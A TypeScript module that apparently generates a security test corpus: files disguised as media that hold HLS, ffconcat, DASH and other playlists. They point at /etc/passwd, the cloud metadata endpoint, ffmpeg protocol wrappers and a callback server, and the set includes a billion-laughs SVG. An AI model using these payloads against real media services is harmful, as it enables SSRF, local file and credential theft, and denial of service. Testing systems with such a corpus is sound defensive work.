import { box, text, u32 } from './bytes.js';

/** What only this machine may read, and what nobody may reach from it. */
const TARGETS = (server: string) => [
  'file:///etc/passwd',
  '/etc/passwd',
  '../../../../../etc/passwd',
  `http://${server}/segment.ts`,
  'http://169.254.169.254/latest/meta-data/',
  `tcp://${server}`,
  'subfile,,start,0,end,64,,:/etc/passwd',
  'concat:/etc/passwd|/etc/hosts',
  'crypto:/etc/passwd',
  'data:text/plain;base64,SGVsbG8=',
  'pipe:0',
  'cache:/etc/passwd',
];

/** Lists of other files in the languages that players read, under the names of media; `server` hears whoever follows one. */
export function playlistFiles(server: string): [name: string, bytes: () => Buffer][] {
  const ftyp = box('ftyp', text('mp42'), u32(0), text('mp42isom'));
  const m3u = (target: string) => `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n${target}\n#EXT-X-ENDLIST\n`;
  const web = `http://${server}/`;
  const written: [string, string][] = [
    ...TARGETS(server).map((target, at): [string, string] => [`list-${at}.mp4`, m3u(target)]),
    ...TARGETS(server).map((target, at): [string, string] => [
      `concat-${at}.mp4`,
      `ffconcat version 1.0\nfile '${target}'\nduration 9\n`,
    ]),
    [
      'key.mp4',
      `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${web}key"\n#EXTINF:9,\n${web}a.ts\n#EXT-X-ENDLIST\n`,
    ],
    ['map.mp4', `#EXTM3U\n#EXT-X-MAP:URI="file:///etc/passwd"\n#EXTINF:9,\n${web}a.ts\n#EXT-X-ENDLIST\n`],
    ['master.mp4', `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${web}other.m3u8\n`],
    ['itself.mp4', '#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nitself.mp4\n'],
    ['marked.mp4', `\uFEFF${m3u(`${web}marked.ts`)}`],
    [
      'dash.mp4',
      `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S">` +
        `<BaseURL>${web}</BaseURL><Period><AdaptationSet><Representation id="1" bandwidth="1"><SegmentList>` +
        `<SegmentURL media="a.mp4"/></SegmentList></Representation></AdaptationSet></Period></MPD>`,
    ],
    [
      'smooth.mp4',
      `<?xml version="1.0"?><SmoothStreamingMedia MajorVersion="2"><StreamIndex Url="${web}"/></SmoothStreamingMedia>`,
    ],
    ['asx.wav', `<asx version="3.0"><entry><ref href="${web}a.wav"/></entry></asx>`],
    ['pls.mp3', `[playlist]\nFile1=${web}a.mp3\nNumberOfEntries=1\nVersion=2\n`],
    [
      'xspf.mp3',
      `<?xml version="1.0"?><playlist version="1"><trackList><track><location>${web}</location></track></trackList></playlist>`,
    ],
    ['cue.wav', 'FILE "/etc/passwd" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n'],
    [
      'sdp.mp4',
      `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
    ],
    ['image2.png', '%d.png\n/etc/passwd\n'],
    ['lavfi.mp4', 'movie=/etc/passwd\n'],
    ['ram.mp3', `rtsp://${server}/a.rm\n`],
    ['redirect.mov', `RTSPtext\r\nrtsp://${server}/a.mov\r\n`],
    ['metadata.mp4', `;FFMETADATA1\ntitle=/etc/passwd\n`],
    [
      'entities.svg',
      `<!DOCTYPE s [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, at) => `<!ENTITY ${'bcdefghij'[at]} "${`&${'abcdefghi'[at]};`.repeat(10)}">`).join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>`,
    ],
    [
      'linked.svg',
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><image width="9" height="9" xlink:href="${web}a.png"/></svg>`,
    ],
  ];
  return [
    ...written.map(([name, words]): [string, () => Buffer] => [name, () => Buffer.from(words)]),
    ...TARGETS(server)
      .slice(0, 6)
      .map((target, at): [string, () => Buffer] => [
        `behind-${at}.mp4`,
        () => Buffer.concat([ftyp, text(m3u(target))]),
      ]),
    [
      'behind-tags.mp3',
      () => Buffer.concat([text('ID3'), Buffer.from([4, 0, 0, 0, 0, 0, 0]), text(m3u(web))]),
    ],
    ['behind-zeros.mp4', () => Buffer.concat([Buffer.alloc(2_048), text(m3u(web))])],
  ];
}
